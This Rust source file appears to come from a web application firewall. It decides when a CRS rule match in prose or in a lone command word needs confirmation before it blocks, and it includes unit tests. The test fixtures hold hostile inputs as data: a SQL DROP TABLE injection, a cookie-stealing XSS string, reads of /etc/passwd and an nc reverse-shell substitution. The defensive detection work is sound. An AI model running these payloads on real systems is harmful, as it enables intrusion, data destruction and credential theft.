//! CRS matches in prose confirmed by independent evidence before they block.
//!
//! CRS at paranoia level 1 blocks on a single critical regex match. Most of its false
//! positives on real text are exactly that: one regex in one attack family (a shell command
//! word in a manual page, an SQL function name in documentation) matching inside ordinary
//! prose, and nothing else. Attack payloads are dense syntax, not sentences. So, per attack
//! family (930 LFI, 931 RFI, 932 RCE, 933 PHP, 934 generic, 941 XSS, 942 SQLi, 944 Java),
//! when **every** match of the family is in a value that reads as prose ([`is_prose`]),
//! CRS's score for the family counts only when one of these confirms it:
//! - a detector rather than a regex (941100 and 942100, libinjection's XSS and SQLi);
//! - a native rule of the same family (its `attack-*` tag) on the same request.
//!
//! (A second CRS regex of the same family is no confirmation: the RCE rules 932230 and
//! 932250, for one, match the same command word together.) A match in a value that does not read as prose (a short parameter, a payload, a header
//! CRS inspects whole) counts as CRS scores it.
//!
//! The same holds for an RCE match in a lone word without any shell syntax
//! ([`lacks_syntax`]): a dependency named `base64` or a user called `nc` is not a command
//! injection unless something else says so.
//!
//! Unconfirmed matches are still reported (score 0, tagged `unconfirmed`), so an operator
//! sees them in `waf_detected`. Protocol, scanner and other non-family rules count as CRS
//! scores them. `[waf.crs] confirm = false` restores CRS's own behaviour.

use super::Match;

/// The attack family of a CRS rule id, if it has one.
pub fn family(id: u32) -> Option<&'static str> {
    Some(match id / 1000 {
        930 => "lfi",
        931 => "rfi",
        932 => "rce",
        933 => "php",
        934 => "generic",
        941 => "xss",
        942 => "sqli",
        944 => "java",
        _ => return None,
    })
}

/// Native rule tags that confirm a family.
fn native_tags(family: &str) -> &'static [&'static str] {
    match family {
        "lfi" => &["attack-lfi"],
        "rfi" => &["attack-rfi", "attack-ssrf"],
        "rce" => &["attack-rce"],
        "php" => &["attack-php"],
        "generic" => &["attack-node", "attack-ssti", "attack-nosql", "attack-java"],
        "xss" => &["attack-xss"],
        "sqli" => &["attack-sqli"],
        "java" => &["attack-java"],
        _ => &[],
    }
}

/// Detector rules whose single match is evidence enough.
const DETECTORS: [u32; 2] = [941100, 942100];

/// Whether a value a CRS rule of `family` matched in cannot carry that family's attack as
/// CRS read it: it reads as prose ([`is_prose`]), or it lacks the family's syntax
/// altogether ([`lacks_syntax`]).
pub fn harmless_shape(family: &str, v: &[u8]) -> bool {
    is_prose(v) || lacks_syntax(family, v)
}

/// A value with none of the characters an attack of `family` needs: a command injection
/// chains, substitutes or spells a command (separators, `$`, backquote, brackets, globs,
/// quotes, redirections, absolute paths, `%var%`, whitespace between a command and its arguments);
/// a lone word without any of them (a package named `base64`, a user called `nc`) is data,
/// not a command. Other families: false.
pub fn lacks_syntax(family: &str, v: &[u8]) -> bool {
    match family {
        // An absolute or home path names a program to run; `crate/feature` does not.
        "rce" if matches!(v.first(), Some(b'/' | b'~' | b'.')) => false,
        "rce" => !v.iter().any(|b| {
            b.is_ascii_whitespace()
                || b.is_ascii_control()
                || matches!(
                    b,
                    b';' | b'|'
                        | b'&'
                        | b'$'
                        | b'`'
                        | b'('
                        | b')'
                        | b'{'
                        | b'}'
                        | b'['
                        | b']'
                        | b'<'
                        | b'>'
                        | b'*'
                        | b'?'
                        | b'%'
                        | b'\\'
                        | b'\''
                        | b'"'
                        | b','
                        | b'='
                )
        }),
        _ => false,
    }
}

/// Text that reads as sentences: at least 40 bytes and either at least 8 words, three
/// quarters of them plain words (letters, with at most one trailing punctuation mark), or
/// — documentation that mixes prose with code — at least 20 words, half of them plain.
pub fn is_prose(v: &[u8]) -> bool {
    if v.len() < 40 {
        return false;
    }
    let (mut words, mut plain) = (0usize, 0usize);
    for w in v
        .split(|b| b.is_ascii_whitespace())
        .filter(|w| !w.is_empty())
    {
        words += 1;
        let core = match w.last() {
            Some(b'.' | b',' | b';' | b':' | b'!' | b'?' | b')') => &w[..w.len() - 1],
            _ => w,
        };
        let core = core.strip_prefix(b"(").unwrap_or(core);
        if !core.is_empty()
            && core
                .iter()
                .all(|b| b.is_ascii_alphabetic() || *b == b'\'' || *b == b'-' || *b >= 0x80)
        {
            plain += 1;
        }
    }
    (words >= 8 && plain * 4 >= words * 3) || (words >= 20 && plain * 2 >= words)
}

/// The families among `crs` (CRS matches) that are not confirmed, given the native
/// matches; `harmless(m, family)` says whether a CRS match was in a value of a
/// [`harmless_shape`] for its family.
pub fn unconfirmed(
    crs: &[Match],
    native: &[Match],
    harmless: impl Fn(&Match, &str) -> bool,
) -> Vec<&'static str> {
    let mut fams: Vec<&'static str> = crs.iter().filter_map(|m| family(m.rule)).collect();
    fams.sort_unstable();
    fams.dedup();
    fams.retain(|f| {
        let detector = crs
            .iter()
            .any(|m| family(m.rule) == Some(*f) && DETECTORS.contains(&m.rule));
        let native = native
            .iter()
            .any(|m| m.tags.iter().any(|t| native_tags(f).contains(&t.as_str())));
        let all_harmless = crs
            .iter()
            .filter(|m| family(m.rule) == Some(*f))
            .all(|m| harmless(m, f));
        all_harmless && !(detector || native)
    });
    fams
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::waf::{RuleAction, Severity};
    use std::sync::Arc;

    fn m(rule: u32, tags: &[&str]) -> Match {
        Match {
            rule,
            msg: Arc::from(""),
            severity: Severity::Critical,
            score: 0,
            action: RuleAction::Block,
            target: String::new(),
            excerpt: String::new(),
            tags: tags.iter().map(|t| t.to_string()).collect(),
        }
    }

    #[test]
    fn one_regex_alone_in_prose_is_unconfirmed() {
        let prose = |_: &Match, _: &str| true;
        assert_eq!(unconfirmed(&[m(932235, &[])], &[], prose), ["rce"]);
        assert!(unconfirmed(&[m(932235, &[])], &[], |_: &Match, _: &str| false).is_empty());
        assert_eq!(
            unconfirmed(&[m(932230, &[]), m(932250, &[])], &[], prose),
            ["rce"]
        );
        assert!(unconfirmed(&[m(942100, &[])], &[], prose).is_empty());
        assert!(unconfirmed(&[m(932235, &[])], &[m(3001, &["attack-rce"])], prose).is_empty());
        assert_eq!(
            unconfirmed(
                &[m(942151, &[]), m(932235, &[]), m(920350, &[])],
                &[m(3001, &["attack-rce"])],
                prose
            ),
            ["sqli"]
        );
    }

    #[test]
    fn prose_and_payloads() {
        assert!(is_prose(b"Use this option to select the database and run the command from your shell (see below)."));
        assert!(!is_prose(
            b"1; DROP TABLE users; SELECT * FROM information_schema.tables --"
        ));
        assert!(!is_prose(
            b"<script>alert(document.cookie)</script> and some more words here ok"
        ));
        assert!(!is_prose(b"cat /etc/passwd"));
        // Documentation mixing sentences and code.
        assert!(is_prose(b"Inserts a value into the map. If the map did not have this key present, `None` is returned; if it did, the value is updated and the old value is returned: `map.insert(37, \"a\")` returns `None`."));
    }

    #[test]
    fn a_command_word_without_shell_syntax_is_data() {
        assert!(lacks_syntax("rce", b"base64"));
        assert!(lacks_syntax("rce", b"python3"));
        assert!(!lacks_syntax("rce", b"python3 -m http.server"));
        assert!(!lacks_syntax("rce", b"/etc/pas[s]wd"));
        assert!(!lacks_syntax("rce", b"/usr/bin/id"));
        assert!(lacks_syntax("rce", b"zstd-sys/zstdmt"));
        assert!(!lacks_syntax("rce", b"x; base64 -d"));
        assert!(!lacks_syntax("rce", b"$(nc -e /bin/sh 10.0.0.1 4444)"));
        assert!(!lacks_syntax("rce", b"a\nid"));
        assert!(!lacks_syntax("sqli", b"base64"));
        assert!(harmless_shape("rce", b"nc"));
    }
}
